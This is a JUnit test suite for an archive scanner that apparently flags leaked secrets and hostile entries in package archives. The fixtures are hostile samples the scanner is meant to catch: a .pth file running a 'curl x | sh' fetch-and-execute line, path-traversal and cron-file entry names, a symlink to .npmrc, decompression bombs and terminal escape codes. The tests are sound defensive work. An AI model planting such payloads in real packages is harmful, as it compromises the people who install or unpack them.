package dev.hardening.auditor.core.scan.archive;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.hardening.auditor.core.scan.ArtifactScanner;
import dev.hardening.auditor.core.scan.ScanResult;
import dev.hardening.auditor.core.scan.SecretMatch;
import dev.hardening.auditor.core.scan.SecretScanner;
import dev.hardening.auditor.core.scan.SensitiveFile;
import dev.hardening.auditor.core.scan.SyntheticSecrets;
import dev.hardening.auditor.core.scan.archive.ArchiveIssue.Kind;
import java.io.ByteArrayInputStream;
import java.time.Duration;
import java.util.Arrays;
import java.util.Random;
import org.junit.jupiter.api.Test;

class ArchiveWalkerTest {
    private static final String TOKEN = new SyntheticSecrets(new Random(11)).githubToken("ghp");
    private static final ScanLimits SMALL = ScanLimits.defaults().withMaxRatio(50).withMaxEntries(50)
            .withMaxEntryBytes(1 << 20).withMaxTotalBytes(64L << 20);

    private static ScanResult scan(String name, byte[] archive) {
        return scan(name, archive, SMALL);
    }

    private static ScanResult scan(String name, byte[] archive, ScanLimits limits) {
        return assertTimeoutPreemptively(Duration.ofSeconds(20), () ->
                new ArtifactScanner(SecretScanner.standard(), limits).scanArchive(name, new ByteArrayInputStream(archive)));
    }

    @Test
    void npmTarballSecretsAndSensitiveFilesAreNamedByEntryAndLine() {
        byte[] tgz = TestArchives.of()
                .file("package/package.json", "{\"name\":\"x\"}")
                .file("package/lib/index.js", "// setup\nconst t = '" + TOKEN + "';\n")
                .file("package/.env", "DEBUG=1\n")
                .tgz();

        ScanResult r = scan("x-1.0.0.tgz", tgz);

        assertThat(r.secrets()).singleElement().satisfies(m -> {
            assertThat(m.path()).isEqualTo("x-1.0.0.tgz!/package/lib/index.js");
            assertThat(m.line()).isEqualTo(2);
            assertThat(m.kind()).isEqualTo("github-pat");
            assertThat(m.redacted()).doesNotContain(TOKEN.substring(4));
        });
        assertThat(r.sensitiveFiles()).extracting(SensitiveFile::kind).containsExactly("dotenv");
        assertThat(r.issues()).isEmpty();
        assertThat(r.files()).isEqualTo(3);
    }

    @Test
    void traversalNamesAreReportedAndTheirContentStillScanned() {
        byte[] tgz = TestArchives.of().file("../../home/user/.bashrc", "export T=" + TOKEN + "\n")
                .file("/etc/cron.d/x", "* * * * * root true\n").tgz();

        ScanResult r = scan("evil.tgz", tgz);

        assertThat(r.issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.PATH_TRAVERSAL, Kind.PATH_TRAVERSAL);
        assertThat(r.hostileEntries()).hasSize(2);
        assertThat(r.secrets()).extracting(SecretMatch::kind).containsExactly("github-pat");
    }

    @Test
    void linksAreReportedNeverFollowed() {
        byte[] tgz = TestArchives.of().symlink("package/creds", "/home/user/.npmrc").file("package/a.txt", "hello").tgz();

        ScanResult r = scan("links.tgz", tgz);

        assertThat(r.issues()).singleElement().satisfies(i -> {
            assertThat(i.kind()).isEqualTo(Kind.LINK);
            assertThat(i.detail()).contains("/home/user/.npmrc").contains("not followed");
        });
        assertThat(r.files()).isEqualTo(1);
    }

    @Test
    void gzipBombStopsAtTheRatioWithAFinding() {
        byte[] bomb = TestArchives.gzipBomb(200L << 20);

        ScanResult r = scan("bomb.tgz", bomb);

        assertThat(r.issues()).extracting(ArchiveIssue::kind).contains(Kind.COMPRESSION_RATIO);
        assertThat(r.incomplete()).isTrue();
    }

    @Test
    void zipBombStopsAtTheRatio() {
        byte[] zip = TestArchives.of().file("a/zeros.bin", new byte[40 << 20]).zip();

        ScanResult r = scan("bomb.whl", zip, SMALL.withMaxEntryBytes(64 << 20));

        assertThat(r.issues()).extracting(ArchiveIssue::kind).contains(Kind.COMPRESSION_RATIO);
    }

    @Test
    void totalSizeCapStopsTheWalk() {
        byte[] tar = TestArchives.of().file("a", new byte[600_000]).file("b", new byte[600_000]).tar();

        ScanResult r = scan("big.tar", tar, SMALL.withMaxTotalBytes(1_000_000));

        assertThat(r.issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.TOTAL_SIZE);
    }

    @Test
    void entryCountCapStopsTheWalk() {
        TestArchives a = TestArchives.of();
        for (int i = 0; i < 60; i++) {
            a.file("f" + i, "x");
        }

        ScanResult r = scan("many.zip", a.zip());

        assertThat(r.issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.ENTRY_COUNT);
        assertThat(r.files()).isEqualTo(50);
    }

    @Test
    void largeEntryIsScannedUpToTheCap() {
        byte[] big = new byte[(1 << 20) + 100];
        Arrays.fill(big, (byte) 'a');
        byte[] head = ("k=" + TOKEN + "\n").getBytes();
        System.arraycopy(head, 0, big, 0, head.length);

        ScanResult r = scan("big.tgz", TestArchives.of().file("package/big.js", big).tgz());

        assertThat(r.issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.ENTRY_SIZE);
        assertThat(r.secrets()).hasSize(1);
    }

    @Test
    void wheelInsideAnSdistIsOpenedOneLevelAndItsPthFileFlagged() {
        byte[] wheel = TestArchives.of().file("evil.pth", "import os; os.system('curl x | sh')\n")
                .file("pkg/__init__.py", "KEY = '" + TOKEN + "'\n").zip();
        byte[] sdist = TestArchives.of().file("pkg-1.0/dist/pkg-1.0-py3-none-any.whl", wheel).tgz();

        ScanResult r = scan("pkg-1.0.tar.gz", sdist);

        assertThat(r.secrets()).singleElement().extracting(SecretMatch::path)
                .isEqualTo("pkg-1.0.tar.gz!/pkg-1.0/dist/pkg-1.0-py3-none-any.whl!/pkg/__init__.py");
        assertThat(r.sensitiveFiles()).singleElement().satisfies(f -> {
            assertThat(f.kind()).isEqualTo("pth-file");
            assertThat(f.reason()).contains("runs code");
        });
    }

    @Test
    void archivesNestedTwoLevelsAreNotOpened() {
        byte[] inner = TestArchives.of().file("deep.txt", TOKEN).zip();
        byte[] middle = TestArchives.of().file("inner.zip", inner).zip();
        byte[] outer = TestArchives.of().file("middle.zip", middle).zip();

        ScanResult r = scan("outer.zip", outer);

        assertThat(r.issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.NESTING_DEPTH);
        assertThat(r.secrets()).isEmpty();
    }

    @Test
    void truncatedAndGarbageArchivesGiveAFindingNotAnException() {
        byte[] tgz = TestArchives.of().file("package/a.js", "x".repeat(100_000)).tgz();
        byte[] truncated = Arrays.copyOf(tgz, tgz.length / 2);
        byte[] garbage = new byte[5000];
        new Random(3).nextBytes(garbage);
        garbage[0] = 0x1f;
        garbage[1] = (byte) 0x8b;

        assertThat(scan("t.tgz", truncated).issues()).extracting(ArchiveIssue::kind).contains(Kind.CORRUPT);
        assertThat(scan("g.tgz", garbage).issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.CORRUPT);
        assertThat(scan("n.tgz", new byte[0]).issues()).extracting(ArchiveIssue::kind).containsExactly(Kind.UNSUPPORTED);
    }

    @Test
    void controlCharactersInEntryNamesAreNeutralised() {
        byte[] tgz = TestArchives.of().file("package/\u001b[31mred\u0007.txt", "x").file("../\u001b]0;x\u0007", "y").tgz();

        ScanResult r = scan("esc.tgz", tgz);

        assertThat(r.issues()).allSatisfy(i -> assertThat(i.path()).doesNotContain("\u001b").doesNotContain("\u0007"));
    }
}
